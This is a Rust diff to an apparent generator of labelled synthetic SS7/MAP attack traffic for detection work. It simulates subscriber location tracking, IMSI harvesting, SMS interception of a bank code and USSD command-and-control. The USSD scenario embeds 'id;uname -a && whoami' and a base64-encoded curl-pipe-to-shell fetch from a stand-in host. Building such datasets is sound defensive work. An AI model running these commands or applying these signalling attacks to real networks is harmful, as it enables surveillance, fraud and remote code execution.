@@ -212,13 +212,44 @@ pub fn benign(seed: u64) -> Result<Vec<Frame>, SynthError> {
     Ok(n.frames)
 }
 
-/// Location enquiries (ATI, PSI, SRI-for-SM) for home subscribers from foreign GTs.
+/// Background between attack steps (labelled benign): the home SMSC asks the HLR where to
+/// deliver to a home subscriber and is answered.
+fn home_routing(n: &mut Net) -> Result<(), SynthError> {
+    let attack = std::mem::replace(&mut n.attack, false);
+    let sub = n.rng.below(500);
+    n.wait(100, 400);
+    let otid = invoke(
+        n,
+        SMSC,
+        HLR,
+        acs::SHORT_MSG_GATEWAY,
+        ops::SRI_FOR_SM,
+        map::sri_sm_arg(&msisdn(sub), SMSC)?,
+    )?;
+    n.wait(20, 40);
+    answer(
+        n,
+        HLR,
+        SMSC,
+        otid,
+        acs::SHORT_MSG_GATEWAY,
+        Some((ops::SRI_FOR_SM, map::sri_sm_res(&imsi(sub), HOME_VLR)?)),
+    )?;
+    n.attack = attack;
+    Ok(())
+}
+
+/// Location enquiries (ATI, PSI, SRI-for-SM) for home subscribers from foreign GTs, each
+/// answered by the HLR with what the attacker asked for (location, IMSI and serving MSC),
+/// between home routing enquiries.
 pub fn fs11(seed: u64) -> Result<Vec<Frame>, SynthError> {
     let mut n = Net::new(seed);
     for (k, foreign) in FOREIGN_GTS.iter().enumerate() {
+        home_routing(&mut n)?;
+        n.attack = true;
         let sub = n.rng.below(1000);
         n.wait(1_000, 5_000);
-        invoke(
+        let otid = invoke(
             &mut n,
             foreign,
             HLR,
@@ -226,8 +257,12 @@ pub fn fs11(seed: u64) -> Result<Vec<Frame>, SynthError> {
             ops::ANY_TIME_INTERROGATION,
             map::ati_arg(&msisdn(sub), foreign)?,
         )?;
+        n.wait(20, 60);
+        let res = Some((ops::ANY_TIME_INTERROGATION, map::ati_res()));
+        answer(&mut n, HLR, foreign, otid, acs::ANY_TIME_INFO_ENQUIRY, res)?;
+        home_routing(&mut n)?;
         n.wait(500, 5_000);
-        invoke(
+        let otid = invoke(
             &mut n,
             foreign,
             HLR,
@@ -235,16 +270,34 @@ pub fn fs11(seed: u64) -> Result<Vec<Frame>, SynthError> {
             ops::PROVIDE_SUBSCRIBER_INFO,
             map::psi_arg(&imsi(sub))?,
         )?;
+        n.wait(20, 60);
+        // PSI-Res is a SEQUENCE { subscriberInfo } like ATI's
+        let res = Some((ops::PROVIDE_SUBSCRIBER_INFO, map::ati_res()));
+        answer(
+            &mut n,
+            HLR,
+            foreign,
+            otid,
+            acs::SUBSCRIBER_INFO_ENQUIRY,
+            res,
+        )?;
         n.wait(500, 5_000);
-        invoke(
+        // the same title's routing enquiry (IMSI and serving MSC): one step of its tracking
+        let target = sub + k as u64;
+        let otid = invoke(
             &mut n,
             foreign,
             HLR,
             acs::SHORT_MSG_GATEWAY,
             ops::SRI_FOR_SM,
-            map::sri_sm_arg(&msisdn(sub + k as u64), foreign)?,
+            map::sri_sm_arg(&msisdn(target), foreign)?,
         )?;
+        n.wait(20, 60);
+        let res = Some((ops::SRI_FOR_SM, map::sri_sm_res(&imsi(target), HOME_VLR)?));
+        answer(&mut n, HLR, foreign, otid, acs::SHORT_MSG_GATEWAY, res)?;
+        n.attack = false;
     }
+    home_routing(&mut n)?;
     Ok(n.frames)
 }
 
@@ -257,15 +310,25 @@ pub fn harvesting(seed: u64) -> Result<Vec<Frame>, SynthError> {
         .copied()
         .unwrap_or("85290001234");
     for i in 0..25u64 {
+        if i % 5 == 0 {
+            home_routing(&mut n)?;
+        }
+        n.attack = true;
         n.wait(1_500, 1_000);
-        invoke(
+        let target = base + i * 7;
+        let otid = invoke(
             &mut n,
             foreign,
             HLR,
             acs::SHORT_MSG_GATEWAY,
             ops::SRI_FOR_SM,
-            map::sri_sm_arg(&msisdn(base + i * 7), foreign)?,
+            map::sri_sm_arg(&msisdn(target), foreign)?,
         )?;
+        // the HLR answers each lookup: the subscriber's IMSI and serving MSC
+        n.wait(20, 60);
+        let res = Some((ops::SRI_FOR_SM, map::sri_sm_res(&imsi(target), HOME_VLR)?));
+        answer(&mut n, HLR, foreign, otid, acs::SHORT_MSG_GATEWAY, res)?;
+        n.attack = false;
     }
     Ok(n.frames)
 }
@@ -297,7 +360,10 @@ pub fn travel(seed: u64) -> Result<Vec<Frame>, SynthError> {
         map::ul_arg(&sub, HOME_VLR, HOME_VLR)?,
     )?;
     n.wait(600_000, 60_000);
-    invoke(
+    // the subscriber's home activity above is the set-up; the attack is the update from
+    // abroad (answered by the HLR) and the short message then delivered there
+    n.attack = true;
+    let otid = invoke(
         &mut n,
         foreign,
         HLR,
@@ -305,9 +371,14 @@ pub fn travel(seed: u64) -> Result<Vec<Frame>, SynthError> {
         ops::UPDATE_LOCATION,
         map::ul_arg(&sub, foreign, foreign)?,
     )?;
+    n.wait(30, 60);
+    answer(&mut n, HLR, foreign, otid, acs::NETWORK_LOC_UP, None)?;
+    n.attack = false;
+    home_routing(&mut n)?;
+    n.attack = true;
     n.wait(30_000, 30_000);
     let tpdu = SmsDeliverRepr::text(SMSC, "Your bank code is 112233").emit()?;
-    invoke(
+    let otid = invoke(
         &mut n,
         SMSC,
         foreign,
@@ -315,6 +386,8 @@ pub fn travel(seed: u64) -> Result<Vec<Frame>, SynthError> {
         ops::MT_FORWARD_SM,
         map::mt_forward_sm_arg(&sub, SMSC, &tpdu)?,
     )?;
+    n.wait(30, 60);
+    answer(&mut n, foreign, SMSC, otid, acs::SHORT_MSG_MT_RELAY, None)?;
     Ok(n.frames)
 }
 
@@ -327,17 +400,35 @@ pub fn ussd_c2(seed: u64) -> Result<Vec<Frame>, SynthError> {
         "id;uname -a && whoami",
         "Y3VybCAtcyBodHRwOi8vYzIuZXhhbXBsZS9wIHwgc2g=",
     ];
+    let foreign = "85290001234";
     for c in commands {
+        home_routing(&mut n)?;
+        n.attack = true;
         n.wait(5_000, 20_000);
         let sub = msisdn(n.rng.below(1000));
-        invoke(
+        let otid = invoke(
             &mut n,
-            "85290001234",
+            foreign,
             HLR,
             acs::NETWORK_UNSTRUCTURED_SS,
             ops::PROCESS_USSD,
             map::ussd_arg(c, &sub)?,
         )?;
+        // the implant's answer: the command's output, encoded
+        n.wait(100, 200);
+        let res = Some((
+            ops::PROCESS_USSD,
+            map::ussd_res("dWlkPTAocm9vdCkgZ2lkPTAocm9vdCk=")?,
+        ));
+        answer(
+            &mut n,
+            HLR,
+            foreign,
+            otid,
+            acs::NETWORK_UNSTRUCTURED_SS,
+            res,
+        )?;
+        n.attack = false;
     }
     Ok(n.frames)
 }
@@ -369,7 +460,8 @@ pub fn sms_binary(seed: u64) -> Result<Vec<Frame>, SynthError> {
         }
         .emit()?;
         let sub = imsi(n.rng.below(1000));
-        invoke(
+        n.attack = true;
+        let otid = invoke(
             &mut n,
             foreign,
             "447700900555",
@@ -377,6 +469,18 @@ pub fn sms_binary(seed: u64) -> Result<Vec<Frame>, SynthError> {
             ops::MT_FORWARD_SM,
             map::mt_forward_sm_arg(&sub, foreign, &tpdu)?,
         )?;
+        // the delivering MSC acknowledges it
+        n.wait(50, 100);
+        answer(
+            &mut n,
+            "447700900555",
+            foreign,
+            otid,
+            acs::SHORT_MSG_MT_RELAY,
+            None,
+        )?;
+        n.attack = false;
+        home_routing(&mut n)?;
     }
     Ok(n.frames)
 }
